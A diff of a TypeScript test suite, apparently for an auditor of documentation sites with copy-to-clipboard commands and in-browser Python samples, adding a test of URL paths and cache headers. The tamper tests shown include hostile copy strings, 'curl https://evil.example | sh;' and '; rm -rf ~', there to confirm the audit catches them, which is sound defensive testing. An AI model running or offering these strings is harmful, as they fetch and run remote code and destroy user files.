@@ -52,7 +52,7 @@ const PAGE_MUTATIONS: readonly (readonly [name: string, change: ($: CheerioAPI) 
   ['copies another command', $ => $(UV).first().attr('data-copy', 'curl https://evil.example | sh;')],
   ['copies other arguments', $ => $('[data-after]').first().attr('data-after', '; rm -rf ~')],
   ['copies arguments that the contract has not', $ => $(UV).first().attr('data-after', '--with evil')],
-  ['copies the command of one file for several', $ => $('#main .actions').append($(UV).first().clone())],
+  ['copies the command of one file for several', $ => $('#several .actions').append($(UV).first().clone())],
   [
     'copies a command where the sample runs in the browser',
     $ => $('#sums-sum .actions').first().append($(UV).first().clone()),
@@ -251,6 +251,22 @@ describe('the audit of a site whose samples run in the browser', () => {
     const problems = await problemsOf(site);
     await writeFile(path, text);
     expect(problems).toEqual(['dist/verified.json: This list is not what was verified.']);
+  });
+
+  test('below a path, its pages fetch from there', async () => {
+    const SITE_URL = 'https://name.example/project/';
+    const { exitCode, text } = await site.run('build', [], { VERBATIM_BROWSER: 'on', SITE_URL });
+    expect([exitCode, text]).toEqual([0, expect.any(String)]);
+    const runs = load(await site.page(PAGE))(RUN).toArray();
+    expect(runs.map(({ attribs }) => attribs['data-run'])).toEqual([
+      ...['sums', 'sums.without-the-start', 'sums', 'sums.without-the-start', 'several'].map(
+        id => `/project/examples/places/${id}/run.json`,
+      ),
+    ]);
+    expect(await site.page('_headers')).toContain(
+      '/project/pyodide/*\n  Cache-Control: public, max-age=31536000, immutable\n',
+    );
+    expect(await site.page('_headers')).toContain('*:*/project/pyodide/');
   });
 
   test('without the proof, a site has no button, no run and no Pyodide', async () => {
